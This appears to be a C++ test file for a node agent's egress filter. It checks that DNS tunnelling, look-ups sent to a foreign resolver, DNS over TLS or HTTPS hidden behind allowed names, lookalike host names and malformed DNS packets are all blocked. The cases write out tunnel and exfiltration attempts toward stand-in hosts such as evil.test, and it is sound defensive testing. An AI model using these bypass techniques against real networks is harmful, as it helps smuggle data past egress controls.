// Names: tunnels through look-ups, other record types, other resolvers, names that look like
// allowed ones, and names that no resolver should see.

#include <gmock/gmock.h>

#include "absl/strings/str_cat.h"
#include "tests/privileged/bypass_case.h"

namespace paddock::nodeagent {
namespace {

constexpr char kSinkholed[] = "rcode 0 answers 1 ";
constexpr char kEmpty[] = "rcode 0 answers 0";
constexpr char kAnsweredHere[] = "look-ups don't leave the node";
constexpr char kForeign[] = "198.51.100.53";

std::vector<BypassCase> Tunnels() {
  std::vector<BypassCase> cases;
  for (const char* transport : {"udp", "tcp"}) {
    cases.push_back(
        {absl::StrCat("ForbiddenZoneOver_", transport),
         {"look-up", "-", "c2vjcmv0.tunnel.evil.test", "1", transport},
         {kSinkholed},
         {"198.51.100."},
         {},
         {"evil.test"},
         LimitedSession::Expected{"c2vjcmv0.tunnel.evil.test", -1, false, "is not allowed"}});
    cases.push_back({absl::StrCat("AllowedZoneOver_", transport),
                     {"look-up", "-", "c2vjcmv0.wild.test", "1", transport},
                     {kSinkholed},
                     {"198.51.100."},
                     {},
                     {"c2vjcmv0"},
                     LimitedSession::Expected{"c2vjcmv0.wild.test", 53, true, kAnsweredHere}});
    cases.push_back({absl::StrCat("OwnResolverOver_", transport),
                     {"look-up", kForeign, "c2vjcmv0.evil.test", "1", transport},
                     {"rcode -"},
                     {"answers 1"},
                     {},
                     {absl::StrCat("query ", kForeign), "c2vjcmv0"},
                     LimitedSession::Expected{"", 53, false, "limited networking"}});
    cases.push_back({absl::StrCat("TheHostsResolverOver_", transport),
                     {"look-up", InternetServers::kResolver, "web.allowed.test", "1", transport},
                     {"rcode -"},
                     {"answers 1"},
                     {},
                     {"c2vjcmv0"},
                     LimitedSession::Expected{"", 53, false, ""}});
  }
  cases.push_back(
      {"DnsOverTlsByAddress",
       {"tcp", kForeign, "853", Sends(Encode(HelloFor("web.allowed.test"))), "recv=2000"},
       {"failed 111"},
       {},
       {},
       {absl::StrCat("open ", kForeign)},
       LimitedSession::Expected{"", 853, false, "limited networking"}});
  cases.push_back(
      {"DnsOverTlsByName",
       {"tcp", "dns.evil.test", "853", Sends(Encode(HelloFor("dns.evil.test"))), "recv=2000"},
       {"reply \\x15\\x03\\x03\\x00\\x02\\x021\n"},
       {},
       {},
       {"evil.test", absl::StrCat("open ", kForeign)},
       LimitedSession::Expected{"dns.evil.test", 853, false, "is not allowed"}});
  cases.push_back({"DnsOverHttpsByAddress",
                   {"tcp", kForeign, "443", Sends(Encode(HelloFor("dns.evil.test"))), "recv=2000"},
                   {"failed 111"},
                   {},
                   {},
                   {absl::StrCat("open ", kForeign)},
                   LimitedSession::Expected{"", 443, false, "limited networking"}});
  cases.push_back(
      {"DnsOverHttpsByName",
       {"tcp", "dns.evil.test", "443", Sends(Encode(HelloFor("dns.evil.test"))), "recv=2000"},
       {"reply \\x15\\x03\\x03\\x00\\x02\\x021\n"},
       {},
       {},
       {"evil.test"},
       LimitedSession::Expected{"dns.evil.test", 443, false, "is not allowed"}});
  // Through the front of a name that is allowed.
  const std::string evil = Encode(HelloFor("dns.evil.test"));
  for (const char* port : {"853", "443"}) {
    cases.push_back({absl::StrCat("ThroughAnAllowedNameOn", port),
                     {"tcp", "web.allowed.test", port, Sends(evil), "recv=2000"},
                     {"reply \\x15\\x03\\x03\\x00\\x02\\x021\n"},
                     {},
                     {},
                     {"evil.test"},
                     LimitedSession::Expected{"web.allowed.test", atoi(port), false, "SNI"}});
  }
  const std::string query = "POST /dns-query HTTP/1.1";
  cases.push_back(
      {"DnsOverPlainHttpThroughAnAllowedName",
       {"tcp", "web.allowed.test", "80",
        Sends(Request(query, "Host: dns.evil.test\r\nContent-Length: 0\r\n")), "recv=2000"},
       {"reply HTTP/1.1 403 "},
       {"200 OK"},
       {},
       {"evil.test", "/dns-query"},
       LimitedSession::Expected{"web.allowed.test", 80, false, "dns.evil.test"}});
  return cases;
}

constexpr int kAaaa = 28;

// Types other than A: of an allowed name and of a forbidden one.
std::vector<BypassCase> RecordTypes() {
  std::vector<BypassCase> cases;
  for (const int type :
       {2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 43, 64, 65, 99, 252, 255, 65280}) {
    for (const char* name : {"web.allowed.test", "c2vjcmv0.evil.test"}) {
      const bool allowed = absl::string_view(name) == "web.allowed.test";
      // Both address types are answered, the others refused whatever the name.
      const std::string reason = type != kAaaa ? absl::StrCat("records of type ", type, " ")
                                 : allowed     ? kAnsweredHere
                                               : "is not allowed";
      cases.push_back({absl::StrCat("Type", type, allowed ? "OfAllowed" : "OfForbidden"),
                       {"look-up", "-", name, absl::StrCat(type), "udp"},
                       {"answers 0"},
                       {"rcode -1"},
                       {},
                       {"c2vjcmv0", absl::StrCat("TYPE", type), " TXT", " AAAA"},
                       LimitedSession::Expected{name, 53, allowed && type == kAaaa, reason}});
    }
  }
  cases.push_back({"AaaaIsEmptyAndNoError",
                   {"look-up", "-", "both.allowed.test", "28", "udp"},
                   {kEmpty},
                   {},
                   {},
                   {"both.allowed.test AAAA"},
                   LimitedSession::Expected{"both.allowed.test", 53, true, kAnsweredHere}});
  return cases;
}

// Names that resemble allowed ones. They resolve to the sinkhole, whose web server explains.
std::vector<BypassCase> Lookalikes() {
  std::vector<BypassCase> cases;
  const std::pair<const char*, const char*> names[] = {
      {"AllowedAsPrefix", "web.allowed.test.evil.test"},
      {"Apex", "allowed.test"},
      {"ApexOfWildcard", "wild.test"},
      {"BelowBareHost", "a.web.allowed.test"},
      {"SuffixWithoutDot", "notwild.test"},
      {"Hyphenated", "evil-web.allowed.test"},
      {"PunycodeOfAnother", "xn--bcher-kva.evil.test"},
      {"SingleLabel", "web"},
      {"LooksLikeAnAddress", "198.51.100.20.evil.test"}};
  for (const auto& [label, name] : names) {
    cases.push_back(
        {label,
         {"tcp", name, "80",
          Sends(Request("GET /smuggled HTTP/1.1", absl::StrCat("Host: ", name, "\r\n"))),
          "recv=3000"},
         {"reply HTTP/1.1 403 ", name},
         {},
         {},
         {"/smuggled", "evil", "notwild"},
         LimitedSession::Expected{name, 80, false, absl::StrCat("\"", name, "\"")}});
  }
  const std::tuple<const char*, const char*, const char*> same[] = {
      {"UpperCase", "WEB.Allowed.TEST", "web.allowed.test"},
      {"TrailingDot", "web.allowed.test.", "web.allowed.test"},
      {"Wildcard", "a.b.wild.test", "a.b.wild.test"},
      {"Punycode", "xn--bcher-kva.test", "xn--bcher-kva.test"}};
  for (const auto& [label, name, normal] : same) {
    cases.push_back({absl::StrCat("Allowed", label),
                     {"tcp", name, "80",
                      Sends(Request("GET /wanted HTTP/1.1", absl::StrCat("Host: ", name, "\r\n"))),
                      "recv=5000"},
                     {"reply HTTP/1.1 200 OK"},
                     {},
                     {"/wanted"},
                     {},
                     LimitedSession::Expected{normal, 80, true, ""}});
  }
  return cases;
}

std::string Question(const std::string& name) {
  return std::string("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12) + name +
         std::string("\0\1\0\1", 4);
}

// Packets that no resolver of a C library sends. Nothing of them may go upstream.
std::vector<BypassCase> Malformed() {
  const std::string zero(1, '\0');
  const std::string header("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
  std::string long_name;
  for (int i = 0; i < 20; ++i) long_name += "\x3f" + std::string(63, 'x');
  std::string quarter;
  for (int i = 0; i < 3; ++i) quarter += "\x3f" + std::string(63, 'y');
  const char kBadName[] = "malformed or too long a name";
  struct Packet {
    const char* label;
    std::string bytes;
    std::string reason;     // A part of the event's.
    std::string name = "";  // The event's.
  };
  const Packet packets[] = {
      {"ZeroByteInALabel", Question(std::string("\7web\0xyz\4wild\4test\0", 19)), "not allowed",
       "web\\000xyz.wild.test"},
      {"DotInALabel", Question(std::string("\10web.evil\4wild\4test\0", 20)), "not allowed",
       "web\\046evil.wild.test"},
      {"SpaceInALabel", Question(std::string("\7web xyz\4wild\4test\0", 19)), "not allowed",
       "web\\032xyz.wild.test"},
      {"Utf8",
       Question(std::string("\7b\xc3\xbc"
                            "cher\4wild\4test\0",
                            19)),
       "not allowed", "b\\195\\188cher.wild.test"},
      {"LabelOf64", Question("\x40" + std::string(64, 'z') + std::string("\4wild\4test\0", 11)),
       kBadName},
      {"NameOf1280", Question(long_name + zero), kBadName},
      {"NameOf256InAllowedZone",
       Question(quarter + "\x34" + std::string(52, 'y') + std::string("\4wild\4test\0", 11)),
       kBadName},
      {"PointerToItself", Question(std::string("\xc0\x0c", 2)), kBadName},
      {"PointerBeyond", Question(std::string("\xc0\xff", 2)), kBadName},
      {"NoQuestion", header, kBadName},
      {"TwoQuestions",
       std::string("\x12\x34\x01\x00\x00\x02\x00\x00\x00\x00\x00\x00", 12) +
           std::string("\3web\4wild\4test\0\0\1\0\1", 19) +
           std::string("\4evil\4test\0\0\1\0\1", 15),
       "not one question alone"},
      {"Truncated", header + std::string("\3web", 4), kBadName},
      {"AnAnswer",
       std::string("\x12\x34\x81\x80", 4) + Question("\3web\4wild\4test" + zero).substr(4),
       "not a DNS request"},
      {"ShorterThanAHeader", "\x12\x34", "shorter than a DNS header"},
      {"Update", std::string("\x12\x34\x28\x00", 4) + Question("\4evil\4test" + zero).substr(4),
       "not a standard query"},
      {"ChaosClass", header + std::string("\7version\4bind\0\0\x10\0\3", 18), "records of type 16 ",
       "version.bind"},
      {"TrailingData", Question("\3web\4wild\4test" + zero) + "c2vjcmv0",
       "bytes behind the question"}};
  std::vector<BypassCase> cases;
  for (const Packet& packet : packets) {
    for (const char* transport : {"udp", "tcp"}) {
      cases.push_back({absl::StrCat(packet.label, "_", transport),
                       {"look-up-raw", ToHex(packet.bytes), transport},
                       {"rcode "},
                       {"198.51.100."},
                       {},
                       {"wild.test", "evil.test", "version.bind", "c2vjcmv0"},
                       LimitedSession::Expected{packet.name, 53, false, packet.reason}});
    }
  }
  return cases;
}

using EgressBypassNamesTest = BypassSuite;

TEST_P(EgressBypassNamesTest, EndsAsThePolicySays) { Try(GetParam()); }

INSTANTIATE_TEST_SUITE_P(Tunnel, EgressBypassNamesTest, ::testing::ValuesIn(Tunnels()), BypassName);
INSTANTIATE_TEST_SUITE_P(Type, EgressBypassNamesTest, ::testing::ValuesIn(RecordTypes()),
                         BypassName);
INSTANTIATE_TEST_SUITE_P(Lookalike, EgressBypassNamesTest, ::testing::ValuesIn(Lookalikes()),
                         BypassName);
INSTANTIATE_TEST_SUITE_P(Malformed, EgressBypassNamesTest, ::testing::ValuesIn(Malformed()),
                         BypassName);

}  // namespace
}  // namespace paddock::nodeagent
